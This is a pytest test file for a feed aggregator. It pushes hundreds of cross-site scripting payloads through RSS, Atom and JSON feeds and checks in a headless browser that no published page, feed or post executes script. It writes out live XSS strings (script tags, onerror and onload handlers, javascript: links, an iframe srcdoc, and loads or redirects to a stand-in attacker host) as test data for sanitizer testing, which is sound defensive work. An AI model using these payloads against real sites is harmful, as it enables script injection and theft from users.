"""Feeds full of scripts, through the whole program: nothing of any output runs, in a browser or in a naive reader."""

from __future__ import annotations

import html
import json
import os
import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from aggregator.content.elements import PUBLISHED
from lxml import etree
from markdown_it import MarkdownIt

from content.breakouts import BREAKOUTS
from content.payloads import _SCHEMES, PAYLOADS
from support.browser import Witness, witnesses
from support.hostile import FORMATS
from support.judge import faults, json_faults, page_faults, xml_faults
from support.project import Project, free_port, get, stop, until

pytestmark = pytest.mark.browser

ALL = [markup for _, markup in (*BREAKOUTS, *PAYLOADS)]
# .ci/xss takes them all.
MARKUPS = ALL if os.environ.get("AGGREGATOR_ALL_PAYLOADS") else ALL[: len(BREAKOUTS)] + ALL[len(BREAKOUTS) :: 3]
LIVE = (
    "<script>xss(1)</script>",
    "<script>alert(1)</script>",
    "<script>document.title = 'executed'</script>",
    "<script src=https://attacker.invalid/x></script>",
    "<img src=x onerror=xss(1)>",
    "<svg onload=xss(1)>",
    "<a href='javascript:xss(1)'>x</a>",
    "<p onclick=xss(1)>x",
    "<details open ontoggle=xss(1)>x",
    "<iframe srcdoc='<script>parent.xss(1)</script>'></iframe>",
    "<meta http-equiv=refresh content='0;url=https://attacker.invalid/'>",
    "<p style='background:url(https://attacker.invalid/x.png)'>x",
)
SITE = """timezone = "Asia/Shanghai"
[site]
title = "我的聚合"
url = "http://127.0.0.1:{port}/"
[publish]
debounce = "0s"
compress = false
sources = true
[serve]
listen = "127.0.0.1:{port}"
admin = "127.0.0.1:{admin}"
[images]
template = "https://images.example/?u={{raw}}"
[[category]]
name = "新媒体"
slug = "xinmeiti"
entries = 100000
per_source = 1000
backlog = -1
[[publish.hexo]]
category = "新媒体"
directory = "posts"
"""
SOURCE = """[[source]]
id = "{name}"
url = "file:{name}.xml"
categories = ["新媒体"]
dedupe = false
embeds = ["www.youtube.com", "player.bilibili.com"]
"""


@dataclass(frozen=True)
class World:
    """What became of the feeds: a folder of outputs, and a daemon that serves them."""

    project: Project
    site: str
    admin: str
    marks: frozenset[str]

    def pages(self) -> list[str]:
        return sorted(path.relative_to(self.project.public).as_posix() for path in self.project.public.rglob("*.html"))

    def feeds(self, suffix: str) -> list[Path]:
        return sorted(self.project.public.rglob(f"*.{suffix}"))

    def posts(self) -> list[str]:
        return [path.read_text("utf-8") for path in sorted((self.project.folder / "posts").glob("*.md"))]


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    """Every payload at the head of a feed, and in an item of a feed of every format, polled and published."""
    project = Project(tmp_path_factory.mktemp("hostile") / "feeds")
    port, admin = free_port(), free_port()
    blocks, marks = [SITE.format(port=port, admin=admin)], set()
    project.folder.mkdir()
    for number in range(len(MARKUPS)):
        # Each source's items take its own payload and the next two, so that each format meets each payload.
        form = list(FORMATS)[number % 3]
        markups = [MARKUPS[(number + step) % len(MARKUPS)] for step in range(3)]
        own = [f"mark{number}n{step}" for step in range(3)]
        body = FORMATS[form](markups, _SCHEMES[number % len(_SCHEMES)], own)
        (project.folder / f"{form}-{number}.xml").write_bytes(body)
        blocks.append(SOURCE.format(name=f"{form}-{number}"))
        marks.update(own)
    for name, body in (("bad-1", "<img src=x onerror=xss(1)>"), ("bad-2", "<rss><xss onload='xss(1)'><script>xss(1)")):
        (project.folder / f"{name}.xml").write_text(body, "utf-8")
        blocks.append(SOURCE.format(name=name))
    project.write("\n".join(blocks))
    done = project.json("poll", "--force", "--tolerate", "2", timeout=600)
    assert done["changed"] == len(MARKUPS)
    assert done["failed"] > 0
    process = project.start()
    try:
        until(lambda: get(f"http://127.0.0.1:{port}/readyz").status == 200, seconds=60, what="the daemon")
        yield World(project, f"http://127.0.0.1:{port}/", f"http://127.0.0.1:{admin}/", frozenset(marks))
    finally:
        stop(process, timeout=60)


@pytest.fixture(scope="module")
def chromium() -> Iterator[Callable[[bool], Witness]]:
    with witnesses() as made:
        yield made


@pytest.fixture(scope="module")
def browser(chromium: Callable[[bool], Witness]) -> Witness:
    """A browser that knows no content security policy."""
    return chromium(False)


def test_there_are_enough_payloads() -> None:
    assert len(set(MARKUPS)) >= 250


def test_every_item_is_published(world: World) -> None:
    for suffix in ("atom", "rss", "json"):
        text = (world.project.public / f"xinmeiti.{suffix}").read_text("utf-8")
        assert world.marks - set(re.findall(r"mark\d+n\d", text)) == set(), suffix
    assert len(world.posts()) == len(world.marks) == 3 * len(MARKUPS)


def test_no_output_holds_anything_active(world: World) -> None:
    for name in world.pages():
        assert page_faults((world.project.public / name).read_text("utf-8")) == [], name
    for suffix in ("atom", "rss", "opml"):
        for path in world.feeds(suffix):
            assert xml_faults(path.read_bytes()) == [], path
    for path in world.feeds("json"):
        assert json_faults(path.read_bytes()) == [], path
    for markup in contents(world):
        assert faults(markup, PUBLISHED | {"iframe"}) == [], markup
    for post in world.posts():
        assert page_faults(rendered(post)) == [], post


@pytest.mark.parametrize("live", LIVE)
def test_the_witness_sees_what_runs(browser: Witness, live: str) -> None:
    browser.document(f"<!doctype html><title>x</title><body>{live}")
    assert browser.take() != []


@pytest.mark.parametrize(
    "live", ["<img src=x onerror=xss(1)>", "<svg><a href=javascript:xss(1)><text>x</text></a></svg>"]
)
def test_the_witness_sees_what_runs_in_a_reader(browser: Witness, live: str) -> None:
    browser.reader([live])
    assert browser.take() != []


@pytest.mark.parametrize("policy", [True, False])
def test_no_page_runs_anything(world: World, chromium: Callable[[bool], Witness], policy: bool) -> None:
    names = [name for name in world.pages() if not policy or "/page-" not in name]
    addresses = [world.site + name for name in names]
    addresses += [world.site + "search?q=" + word for word in ("mark1n1", "xss", "%3Cimg+src%3Dx+onerror%3Dxss(1)%3E")]
    addresses += [world.site + "%3Cscript%3Exss(1)%3C/script%3E", world.site + '"onload="xss(1)']
    addresses += [world.admin + "status", world.admin + "status?q=%3Cscript%3Exss(1)%3C/script%3E"]
    browser = chromium(policy)
    for address in addresses:
        browser.page(address)
        assert browser.take() == [], address


def test_no_feed_runs_anything_in_a_naive_reader(world: World, browser: Witness) -> None:
    bodies = contents(world)
    assert len(bodies) > 5 * len(MARKUPS)
    for start in range(0, len(bodies), 400):
        browser.reader(bodies[start : start + 400])
        assert browser.take() == [], start
        browser.document(
            "<!doctype html><title>x</title>" + "\n".join(f"<div>{one}</div>" for one in bodies[start : start + 400])
        )
        assert browser.take() == [], start


def test_no_document_runs_anything_opened_as_it_is(world: World, browser: Witness) -> None:
    for name in ("ops.atom", "feeds.opml", "sources.opml", "xinmeiti/archive-1.atom", "source/atom-1.atom"):
        browser.xml((world.project.public / name).read_bytes())
        assert browser.take() == [], name


def test_no_post_runs_anything(world: World, browser: Witness) -> None:
    posts = world.posts()
    assert len(posts) >= len(world.marks)
    for start in range(0, len(posts), 200):
        browser.document(
            "<!doctype html><title>x</title>" + "".join(rendered(one) for one in posts[start : start + 200])
        )
        assert browser.take() == [], start


def rendered(post: str) -> str:
    """A post as Hexo makes a page of it: Markdown with HTML let through."""
    body = post.partition("\n---\n")[2]
    return str(MarkdownIt("commonmark", {"html": True}).render(body))


def contents(world: World) -> list[str]:
    """All that a reader takes for HTML in our feeds."""
    found: dict[str, None] = {}
    for path in (*world.feeds("atom"), *world.feeds("rss")):
        for element in etree.fromstring(path.read_bytes(), etree.XMLParser(huge_tree=True)).iter():
            name = str(element.tag).rpartition("}")[2]
            if name in {"description", "encoded"} or element.get("type") in {"html", "xhtml"}:
                found[element.text or ""] = None
    for path in world.feeds("json"):
        for item in json.loads(path.read_bytes())["items"]:
            found[item.get("content_html", "")] = None
            found[html.escape(item.get("content_text", ""))] = None
    return list(found)
